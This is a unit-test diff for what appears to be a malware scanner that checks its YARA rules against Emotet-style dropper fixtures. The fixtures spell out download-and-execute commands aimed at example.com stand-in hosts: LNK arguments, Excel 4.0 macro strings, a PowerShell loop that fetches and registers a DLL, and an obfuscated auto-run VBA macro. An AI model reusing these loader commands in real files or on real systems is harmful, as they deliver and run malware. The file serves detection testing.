@@ -14,6 +14,7 @@
 #include "emogate/scanner.h"
 #include "unit/test_files.h"
 #include "unit/emotet_fixtures.h"
+#include "unit/ovba_builder.h"
 
 using namespace emogate;
 namespace fs = std::filesystem;
@@ -52,7 +53,7 @@ const Finding* find(const Report& r, FindingType t, const std::string& needle) {
 
 TEST(YaraEngine, LnkDropperInsideZipIsFlaggedByShippedRules) {
   TempDir d;
-  auto lnk = fixtures::lnk_with_arguments(
+  auto lnk = emotet_fixtures::lnk_with_arguments(
       "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form 04.25.2022, US.lnk\" > \"%tmp%\\YEeWXf.vbs\" & \"%tmp%\\YEeWXf.vbs\"");
   Scanner s(shipped_rules_config());
   EXPECT_TRUE(s.warnings().empty());
@@ -70,7 +71,7 @@ TEST(YaraEngine, XlmDropperWorkbookInsideZipIsFlagged) {
   // The 2022 Excel 4.0 dropper shape; once the encrypted-ZIP extractor
   // hands over the decrypted member the same rule applies to it.
   TempDir d;
-  auto xls = fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
+  auto xls = emotet_fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                              "..\\oxnv1.ooccxx", "regsvr32.exe -s ..\\oxnv1.ooccxx"});
   Scanner s(shipped_rules_config());
   Report r = s.scan_file(make_zip(d, "INV 2022-03.xls", xls), "INV.zip");
@@ -84,7 +85,7 @@ TEST(YaraEngine, XlmDropperInsideEncryptedZipIsFlagged) {
   // The campaign's delivery: password "infected"-style ZIP, password in the
   // body. Needs the encrypted-archive extractor; skipped where it is absent.
   TempDir d;
-  auto xls = fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
+  auto xls = emotet_fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                              "C:\\Windows\\SysWow64\\rundll32.exe ..\\enu.ocx,DllRegisterServer"});
   d.write("local/enc.yar", "rule From_Encrypted_Member { condition: from_encrypted and type == \"ole2\" }\n");
   Config c = shipped_rules_config();
@@ -105,7 +106,7 @@ TEST(YaraEngine, ZippedPaddedDocumentIsFlagged) {
   // small, the document huge). The ratio limit cuts it short; the padding
   // rule still sees zeros beyond what the document's FAT addresses.
   TempDir d;
-  std::string doc = fixtures::cfb_one_stream("WordDocument", std::string(9000, 'w'));
+  std::string doc = emotet_fixtures::cfb_one_stream("WordDocument", std::string(9000, 'w'));
   doc.resize(64u << 20, '\0');
   std::string zip = make_zip(d, "Invoice.doc", doc);
   doc.clear();
@@ -226,7 +227,7 @@ TEST(YaraEngine, UrlhausUrlInShortcutArgumentsIsFlagged) {
   c.rules.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
   c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
   Scanner s(c);
-  auto lnk = fixtures::lnk_with_arguments(
+  auto lnk = emotet_fixtures::lnk_with_arguments(
       "-w hidden -c \"foreach($u in 'http://shop.example.com/wp-admin/Zx1/','https://b.example/y/')"
       "{try{iwr $u -OutFile $env:TEMP\\q.dll;regsvr32 /s $env:TEMP\\q.dll;break}catch{}}\"",
       {}, "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
@@ -236,6 +237,42 @@ TEST(YaraEngine, UrlhausUrlInShortcutArgumentsIsFlagged) {
   EXPECT_EQ(f->path, "Form.zip/Form.lnk");
   EXPECT_NE(find(r, FindingType::yara, "Emotet_LNK_PowerShell_Downloader_2022"), nullptr);
   EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), "https://b.example/y/"), r.urls.end());
+}
+
+// A Word 97-2003 document whose VBA project holds `source` in one module.
+std::string word_doc_with_vba(const std::string& source) {
+  emogate::test::VbaProjectBuilder p;
+  p.add("ThisDocument", source);
+  emogate::test::Ole2Builder b(3);
+  b.add("WordDocument", std::string(6000, 'w')).add("1Table", std::string(800, 't'));
+  p.add_to(b, "Macros/VBA");
+  return b.build();
+}
+
+TEST(YaraEngine, WordVbaDropperFlaggedThroughDecompressedSource) {
+  // The 2019-2020 shape: auto-run macro, WMI process creation with a hidden
+  // window, download URL split into VBA string pieces. The raw document
+  // holds the source compressed; the rules and the URL list match the
+  // vba_source object emogate derives.
+  TempDir d;
+  Config c = shipped_rules_config();
+  c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
+  Scanner s(c);
+  Report r = s.scan_file(word_doc_with_vba(
+                             "Sub Document_open()\r\n"
+                             "  u = \"ht\" & \"tp://shop.exa\" & \"mple.com/wp-admin/Zx1/\"\r\n"
+                             "  Set p = GetObject(Replace(\"wiXXnmgmXXts:wiXXn32_XXprocess\", \"XX\", \"\"))\r\n"
+                             "  Set st = GetObject(Replace(\"wiXXnmgmts:WiXXn32_ProcessXXStartup\", \"XX\", \"\"))\r\n"
+                             "  st.ShowWindow = 0\r\n"
+                             "  p.Create Replace(\"poXXwershell -w hidden -c iwr \", \"XX\", \"\") & u, Null, st, pid\r\n"
+                             "End Sub\r\n"),
+                         "invoice.doc");
+  const Finding* y = find(r, FindingType::yara, "Emotet_VBA_WMI_Hidden_Process_2019");
+  ASSERT_NE(y, nullptr) << findings_summary(r);
+  EXPECT_EQ(y->verdict, Verdict::malicious);
+  const Finding* u = find(r, FindingType::url_blocklisted, "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus");
+  ASSERT_NE(u, nullptr) << findings_summary(r);
+  EXPECT_EQ(u->path, y->path);  // both on the decompressed module source
 }
 
 TEST(YaraEngine, MissingIntelFileFailsLoading) {
